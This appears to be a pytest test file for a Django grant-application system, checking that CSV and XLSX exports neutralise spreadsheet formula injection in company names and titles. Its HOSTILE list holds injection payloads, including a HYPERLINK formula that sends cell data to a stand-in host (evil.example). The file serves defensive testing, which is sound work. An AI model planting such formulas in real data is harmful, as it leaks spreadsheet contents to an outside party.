"""Exports are safe to open in a spreadsheet: text that starts like a formula stays text."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils import timezone
from openpyxl import load_workbook

from applications.lifecycle import application_submit
from applications.models import Application
from applications.services.exports import export_build, export_request

pytestmark = pytest.mark.django_db


@pytest.fixture
def submitted(alice, complete_draft):
    return application_submit(user=alice, application_id=complete_draft.pk, now=timezone.now())


HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"클릭")', "+82-10-0000", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", HOSTILE)
def test_a_formula_in_a_company_name_or_title_is_neutralised_in_csv_and_xlsx(submitted, olivia, text):
    # The name as the company applied with it (exports carry the facts frozen at submission).
    Application.objects.filter(pk=submitted.pk).update(project_title=text, company_facts=submitted.company_facts | {"name": text})

    data = export_build(export_id=export_request(user=olivia, call=submitted.call, format="csv").pk).file.read()
    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
    assert row[1] == "'" + text and row[7] == "'" + text
    assert row[8] == str(submitted.grant_requested)  # numbers stay numbers

    data = export_build(export_id=export_request(user=olivia, call=submitted.call, format="xlsx").pk).file.read()
    sheet = load_workbook(io.BytesIO(data)).active
    for cell in (sheet["B2"], sheet["H2"]):
        assert cell.data_type == "s" and cell.value == text
    assert sheet["I2"].data_type == "n" and sheet["I2"].value == submitted.grant_requested


def test_ordinary_text_is_written_as_is(submitted, olivia):
    data = export_build(export_id=export_request(user=olivia, call=submitted.call, format="csv").pk).file.read()
    row = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))[1]
    assert row[1] == submitted.company.name and not row[1].startswith("'")
